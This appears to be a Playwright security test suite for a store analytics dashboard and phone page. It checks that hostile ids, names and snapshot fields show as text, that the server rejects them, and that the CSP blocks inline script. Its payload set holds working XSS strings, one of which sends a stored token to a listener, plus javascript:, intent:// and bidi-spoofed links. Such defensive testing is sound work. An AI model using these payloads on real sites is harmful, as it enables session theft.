// Issue 25, repro 2 and deliverable 5: hostile data (ids, campaign ids, sector and shop names, live
// snapshot fields) reaches the dashboard and the phone page in a real Chromium, and no script runs:
// the server refuses what it must, the pages put data in text nodes, and the Content-Security-
// Policy refuses inline scripts even if a page ever slipped.
import { test } from 'node:test'
import assert from 'node:assert/strict'
import { mkdtempSync, readFileSync } from 'node:fs'
import { createServer, type Server } from 'node:http'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import type { AddressInfo } from 'node:net'
import { chromium, type Browser, type Page } from 'playwright-core'
import { buildServer } from '../../server/app.ts'
import { onTestDb } from '../helpers/postgres.ts'
import { silentLogger } from '../../shared/log.ts'
import { api } from '../helpers/procs.ts'
import { ROOT } from '../helpers/run.ts'
import { partTest, CHROMIUM } from '../helpers/parts.ts'
import { waitFor } from '../helpers/gateway.ts'

/** A listener the payloads try to reach (the stolen token would go there); it counts requests. */
async function listener(): Promise<{ server: Server; url: string; hits: string[] }> {
  const hits: string[] = []
  const server = createServer((req, res) => {
    hits.push(req.url ?? '')
    res.end()
  })
  await new Promise<void>(resolve => server.listen(0, '127.0.0.1', resolve))
  return { server, url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, hits }
}

/** Payloads that run script if written into a page as HTML, each reporting to the listener. */
const payloads = (to: string) => ({
  img: `<img src=x onerror="window.__pwned=1;fetch('${to}/img?'+localStorage.instoreToken)">`,
  close: `"><script>window.__pwned=2</script><img src=x onerror="window.__pwned=2;new Image().src='${to}/close'">`,
  svg: `<svg onload="window.__pwned=3;fetch('${to}/svg')">`,
  js: 'javascript:window.__pwned=4'
})

async function launch(): Promise<Browser> {
  return await chromium.launch({
    executablePath: CHROMIUM,
    args: ['--headless', '--no-sandbox', '--disable-gpu', '--no-first-run', '--disable-background-networking', '--disable-component-update', '--disable-sync']
  })
}

/** No script ran on the page and nothing reached the listener. */
async function assertClean(page: Page, hits: string[], what: string): Promise<void> {
  assert.equal(await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned), undefined, `${what}: a payload ran`)
  assert.deepEqual(hits, [], `${what}: the listener was reached`)
}

partTest(
  'chromium',
  'repro 2: a gateway token posts hostile ids, campaign ids, sector names and snapshot fields; the dashboard runs none of them',
  { timeout: 120_000 },
  async () => {
    const ADMIN = 'adm_hostile_test'
    const { app } = await buildServer(await onTestDb({ dataDir: mkdtempSync(join(tmpdir(), 'hostile-')), log: silentLogger, adminToken: ADMIN }))
    const url = await app.listen({ port: 0, host: '127.0.0.1' })
    const sink = await listener()
    const p = payloads(sink.url)
    const browser = await launch()
    try {
      const site = JSON.parse(readFileSync(join(ROOT, 'sites/boutique.site.json'), 'utf8')) as { storeId: string; name?: string }
      // Names are free text in a site: the page must show them as text.
      const gwToken = (await api<{ gatewayToken: string }>(`${url}/v1/stores`, ADMIN, 'POST', { site: { ...site, name: p.close } })).body.gatewayToken
      const storeId = site.storeId
      const base = { storeId, subject: 'h:00000000deadbeef', visitId: 'V1', seq: 1, ts: Date.now(), shop: 'boutique' }
      const posts = [
        { type: 'trigger.fired', id: 'h1', campaignId: p.img, content: { title: p.img, url: p.js } },
        { type: 'sector.exit', id: 'h2', sector: p.img, dwellMs: 40_000 },
        { type: 'sector.exit', id: p.close, sector: 'women', dwellMs: 40_000 },
        { type: 'shop.enter', id: 'h3', subject: `h:${p.svg}`, frequency: { visits7d: 0, visits30d: 0, visits90d: 0, daysSinceLastVisit: null, segment: p.img } }
      ]
      const statuses: number[] = []
      for (const e of posts) statuses.push((await api(`${url}/v1/stores/${storeId}/events`, gwToken, 'POST', { events: [{ ...base, ...e }] })).status)
      const pos = { subject: p.img, ts: 1, x: 5, y: 5, floor: 0, accuracyM: 1, shop: p.close, sector: null, source: 'ble' }
      statuses.push(
        (
          await api(`${url}/v1/stores/${storeId}/live`, gwToken, 'POST', {
            ts: 1,
            positions: [pos],
            occupancy: { ts: 1, shops: { [p.img]: 1 }, sectors: { [p.svg]: 2 }, passersBy: 0 }
          })
        ).status
      )
      // A plain event, so the page has something true to show.
      statuses.push(
        (await api(`${url}/v1/stores/${storeId}/events`, gwToken, 'POST', { events: [{ ...base, id: 'ok1', type: 'sector.exit', sector: 'women', dwellMs: 45_000 }] })).status
      )

      const page = await browser.newPage()
      const violations: string[] = []
      await page.exposeFunction('__violation', (d: string) => {
        violations.push(d)
      })
      await page.addInitScript(() => {
        document.addEventListener('securitypolicyviolation', e => {
          void (window as unknown as { __violation: (d: string) => void }).__violation(e.violatedDirective)
        })
      })
      await page.goto(`${url}/#token=${ADMIN}`)
      await page.waitForFunction(() => (document.getElementById('dwell')?.childElementCount ?? 0) > 0, undefined, { timeout: 30_000 })
      await page.waitForFunction(() => (document.getElementById('funnel')?.childElementCount ?? 0) > 0, undefined, { timeout: 30_000 })
      await assertClean(page, sink.hits, 'dashboard')
      assert.equal(await page.$eval('#store option', o => o.textContent), p.close, "the store's name shows as text")
      assert.equal(await page.evaluate(() => localStorage.getItem('instoreToken')), ADMIN, 'the operator token works as before')
      assert.deepEqual(statuses, [400, 400, 400, 400, 400, 200], 'the server refuses every hostile event and snapshot')
      assert.deepEqual(violations, [], 'the page itself works under its CSP')
      assert.ok(await page.$eval('#dwell .bar i', e => e.getBoundingClientRect().width > 0), 'bars keep their width (styles set through the CSSOM)')
    } finally {
      await browser.close()
      await app.close()
      sink.server.close()
    }
  }
)

partTest('chromium', 'the pages render hostile data from any source as text, and the CSP refuses inline script even if a page slipped', { timeout: 120_000 }, async () => {
  const ADMIN = 'adm_hostile_pages'
  const { app } = await buildServer(await onTestDb({ dataDir: mkdtempSync(join(tmpdir(), 'hostile-pages-')), log: silentLogger, adminToken: ADMIN }))
  const url = await app.listen({ port: 0, host: '127.0.0.1' })
  const sink = await listener()
  const p = payloads(sink.url)
  const browser = await launch()
  try {
    // Whatever the server sends (a bug, an old database, a compromised proxy): the page must not run it.
    const square = (x: number) => ({
      type: 'Polygon',
      coordinates: [
        [
          [x, 0],
          [x + 5, 0],
          [x + 5, 5],
          [x, 5],
          [x, 0]
        ]
      ]
    })
    const site = {
      type: 'FeatureCollection',
      storeId: 'evil',
      name: p.img,
      features: [
        { type: 'Feature', properties: { kind: 'shop', id: p.close, name: p.img }, geometry: square(0) },
        { type: 'Feature', properties: { kind: 'sector', id: p.img, shop: p.close, name: p.svg }, geometry: square(0) },
        { type: 'Feature', properties: { kind: 'sensor', id: 's' }, geometry: { type: 'Point', coordinates: [1, 1] } }
      ]
    }
    const analytics = {
      storeId: 'evil',
      occupancy: { shops: {}, sectors: {} },
      visits: { total: p.img, perDay: [], medianDurationMs: null },
      dwell: { bucketsS: [30], sectors: { [p.img]: [0, 3], [p.close]: [0, 1] } },
      segments: { [p.svg]: 2 },
      funnel: [{ campaign: p.img, fired: 1, delivered: 1, opened: 0, dismissed: 0, converted: 0 }],
      funnelBySector: []
    }
    const snapshot = {
      ts: 1,
      positions: [{ subject: p.img, ts: 1, x: `1" onload="window.__pwned=5`, y: 2, floor: 0, accuracyM: p.img, shop: p.close, sector: p.svg, source: p.img }],
      occupancy: { ts: 1, shops: { [p.img]: 1 }, sectors: { [p.img]: 1 }, passersBy: p.img },
      footfall: { date: p.img, wifiDevices: p.img, wifiAddresses: 1, bleDevices: 1 }
    }
    const event = { id: p.img, type: 'trigger.fired', storeId: 'evil', subject: p.close, ts: 1, sector: p.img, campaignId: p.img, content: { title: p.svg } }
    const page = await browser.newPage()
    const violations: string[] = []
    await page.exposeFunction('__violation', (d: string) => {
      violations.push(d)
    })
    await page.addInitScript(() => {
      document.addEventListener('securitypolicyviolation', e => {
        void (window as unknown as { __violation: (d: string) => void }).__violation(e.violatedDirective)
      })
    })
    await page.route('**/v1/stores', r => r.fulfill({ json: [{ storeId: 'evil', name: p.img }] }))
    await page.route('**/v1/stores/evil/site', r => r.fulfill({ json: site }))
    await page.route('**/v1/analytics/stores/evil*', r => r.fulfill({ json: analytics }))
    await page.route('**/v1/stores/evil/live*', r =>
      r.fulfill({
        status: 200,
        headers: { 'content-type': 'text/event-stream' },
        body: `event: snapshot\ndata: ${JSON.stringify(snapshot)}\n\nevent: event\ndata: ${JSON.stringify(event)}\n\n`
      })
    )
    await page.goto(`${url}/#token=${ADMIN}`)
    await page.waitForFunction(() => (document.getElementById('funnel')?.childElementCount ?? 0) > 0 && (document.getElementById('feed')?.childElementCount ?? 0) > 0, undefined, {
      timeout: 30_000
    })
    await assertClean(page, sink.hits, 'dashboard with hostile data')
    const text = async (sel: string) => await page.$eval(sel, e => e.textContent ?? '')
    assert.ok((await text('#funnel')).includes(p.img), 'the campaign id shows as text')
    assert.ok((await text('#dwell')).includes(p.img) && (await text('#dwell')).includes(p.close), 'the sector names show as text')
    assert.ok((await text('#segments')).includes(p.svg))
    assert.ok((await text('#feed')).includes(p.close.slice(0, 14)), 'the event shows as text')
    assert.ok((await text('#map')).includes(p.svg), 'the sector name on the map is text')
    assert.equal(await text('#store option'), p.img)
    assert.equal(
      await page.$$eval('#dwell img, #funnel img, #segments svg, #feed img, #map img, #store img, script:not([src])', es => es.length),
      0,
      'no element was made from data'
    )

    // Defence in depth: markup injected into the page by any means still cannot run script.
    await page.evaluate(html => {
      const d = document.createElement('div')
      d.innerHTML = html
      document.body.append(d)
    }, p.img + p.svg)
    await page.evaluate(() => {
      const s = document.createElement('script')
      s.textContent = 'window.__pwned = 6'
      document.body.append(s)
    })
    await waitFor(() => violations.some(v => v.startsWith('script-src')), 10_000, 'the CSP to refuse the inline script')
    await assertClean(page, sink.hits, 'injected markup')

    // The phone page: hostile content from the campaign shows as text, a javascript: link is not a link.
    const phone = await browser.newPage()
    const trigger = {
      triggerId: 't1',
      storeId: 'evil',
      campaignId: p.img,
      ts: Date.now(),
      expires: Date.now() + 60_000,
      content: { title: p.img, body: p.close, url: p.js },
      sector: p.svg
    }
    // A scheme outside the allowlist (https:, http:, app:) is no link either, nor is a bidi-reversed one.
    const others = [
      { ...trigger, triggerId: 't2', content: { title: 'intent', url: 'intent://scan/#Intent;scheme=x;end' } },
      { ...trigger, triggerId: 't3', content: { title: 'bidi', url: 'https://bank.example/\u202egnp.exe' } }
    ]
    await phone.route('**/v1/devices/d1/triggers*', r =>
      r.fulfill({
        status: 200,
        headers: { 'content-type': 'text/event-stream' },
        body: [trigger, ...others].map((t, i) => `id: ${i + 1}\nevent: trigger\ndata: ${JSON.stringify(t)}\n\n`).join('')
      })
    )
    await phone.route('**/v1/triggers/*/ack', r => r.fulfill({ json: { triggerId: 't1', status: 'delivered' } }))
    await phone.goto(`${url}/phone#deviceId=d1&token=dev_x`)
    await phone.waitForFunction(() => document.querySelectorAll('.trigger').length === 3, undefined, { timeout: 30_000 })
    assert.equal(await phone.evaluate(() => (window as unknown as { __pwned?: number }).__pwned), undefined)
    assert.equal(await phone.$eval('.trigger:last-child h2', e => e.textContent), p.img)
    assert.equal(await phone.$eval('.trigger:last-child .body', e => e.textContent), p.close)
    assert.equal(await phone.$$eval('.trigger a', as => as.length), 0, 'no javascript:, intent: or bidi-reversed link')
    assert.deepEqual(sink.hits, [])
  } finally {
    await browser.close()
    await app.close()
    sink.server.close()
  }
})

partTest(
  'chromium',
  'a burst of a thousand visit.summary events costs a dashboard a few analytics requests; a link never replaces the saved token',
  { timeout: 120_000 },
  async () => {
    const ADMIN = 'adm_hostile_burst'
    const { app } = await buildServer(await onTestDb({ dataDir: mkdtempSync(join(tmpdir(), 'hostile-burst-')), log: silentLogger, adminToken: ADMIN }))
    const url = await app.listen({ port: 0, host: '127.0.0.1' })
    const browser = await launch()
    try {
      const site = JSON.parse(readFileSync(join(ROOT, 'sites/boutique.site.json'), 'utf8')) as unknown
      const analytics = {
        storeId: 'b',
        occupancy: { shops: {}, sectors: {} },
        visits: { total: 1, perDay: [], medianDurationMs: null },
        dwell: { bucketsS: [30], sectors: {} },
        segments: {},
        funnel: [],
        funnelBySector: []
      }
      const summaries = Array.from(
        { length: 1000 },
        (_, i) => `event: event\ndata: ${JSON.stringify({ id: `v${i}`, type: 'visit.summary', storeId: 'b', subject: 'app:1', ts: Date.now(), durationMs: 1000, sectors: [] })}\n\n`
      ).join('')
      const page = await browser.newPage()
      let analyticsRequests = 0
      await page.route('**/v1/stores', r => r.fulfill({ json: [{ storeId: 'b', name: 'B' }] }))
      await page.route('**/v1/stores/b/site', r => r.fulfill({ json: site }))
      await page.route('**/v1/analytics/stores/b*', r => {
        analyticsRequests++
        return r.fulfill({ json: analytics })
      })
      // retry: the stream ends after the burst; the page must not reconnect and replay it during the test.
      await page.route('**/v1/stores/b/live*', r => r.fulfill({ status: 200, headers: { 'content-type': 'text/event-stream' }, body: `retry: 600000\n\n${summaries}` }))
      await page.goto(`${url}/#token=${ADMIN}`)
      await page.waitForFunction(() => (document.getElementById('feed')?.childElementCount ?? 0) >= 200, undefined, { timeout: 30_000 })
      assert.ok(analyticsRequests <= 2, `${analyticsRequests} analytics requests right after the burst`)
      // The burst's refresh comes, once, after the throttle's interval.
      await waitFor(() => analyticsRequests >= 2, 20_000, 'the trailing refresh')
      assert.ok(analyticsRequests <= 3, `${analyticsRequests} analytics requests for a thousand events`)

      // A link carrying another token does not switch identity: the saved token stays, the link's is dropped from the address.
      await page.goto(`${url}/#token=someone_elses_token&store=b`)
      await page.reload() // a change of hash alone does not load the page again
      await page.waitForFunction(() => (document.getElementById('store')?.childElementCount ?? 0) > 0, undefined, { timeout: 30_000 })
      assert.equal(await page.$eval('#token', e => (e as HTMLInputElement).value), ADMIN)
      assert.equal(await page.evaluate(() => localStorage.getItem('instoreToken')), ADMIN)
      assert.doesNotMatch(await page.evaluate(() => location.hash), /token/)
    } finally {
      await browser.close()
      await app.close()
    }
  }
)

test('security headers on every kind of route: pages, scripts, API, SSE, OpenAPI', async () => {
  const ADMIN = 'adm_headers_test'
  const { app } = await buildServer(await onTestDb({ dataDir: mkdtempSync(join(tmpdir(), 'headers-')), log: silentLogger, adminToken: ADMIN }))
  const url = await app.listen({ port: 0, host: '127.0.0.1' })
  try {
    const site = JSON.parse(readFileSync(join(ROOT, 'sites/boutique.site.json'), 'utf8')) as object
    assert.equal((await api(`${url}/v1/stores`, ADMIN, 'POST', { site: { ...site, storeId: 'x' } })).status, 201)
    for (const [path, type] of [
      ['/', 'text/html'],
      ['/phone', 'text/html'],
      ['/dashboard.js', 'text/javascript'],
      ['/phone.js', 'text/javascript'],
      ['/dashboard.css', 'text/css'],
      ['/phone.css', 'text/css'],
      ['/sdk.js', 'text/javascript'],
      ['/docs', 'application/json'],
      ['/healthz', 'application/json'],
      ['/no-such-route', 'application/json'],
      ['/v1/stores/x/live', 'text/event-stream']
    ]) {
      const ac = new AbortController()
      const r = await fetch(url + path, { signal: ac.signal, headers: path.endsWith('/live') ? { authorization: `Bearer ${ADMIN}` } : {} })
      assert.ok(r.headers.get('content-type')?.startsWith(type), `${path}: ${r.headers.get('content-type')}`)
      const csp = r.headers.get('content-security-policy') ?? ''
      assert.match(csp, /script-src 'self'(;|$)/, path)
      assert.doesNotMatch(csp, /unsafe-inline|unsafe-eval/, path)
      assert.match(csp, /frame-ancestors 'none'/, path)
      assert.equal(r.headers.get('x-content-type-options'), 'nosniff', path)
      assert.equal(r.headers.get('referrer-policy'), 'no-referrer', path)
      ac.abort()
    }
    const page = readFileSync(join(ROOT, 'server/public/dashboard.html'), 'utf8') + readFileSync(join(ROOT, 'server/public/phone.html'), 'utf8')
    assert.doesNotMatch(page, /<script(?![^>]*\bsrc=)[^>]*>/, 'no inline script in the pages')
    assert.doesNotMatch(page, /<style|\sstyle=|\son[a-z]+=/, 'no inline style or handler in the pages')
    assert.doesNotMatch(
      readFileSync(join(ROOT, 'server/public/dashboard.js'), 'utf8') + readFileSync(join(ROOT, 'server/public/phone.js'), 'utf8'),
      /innerHTML|outerHTML|insertAdjacentHTML|document\.write/
    )
  } finally {
    await app.close()
  }
})
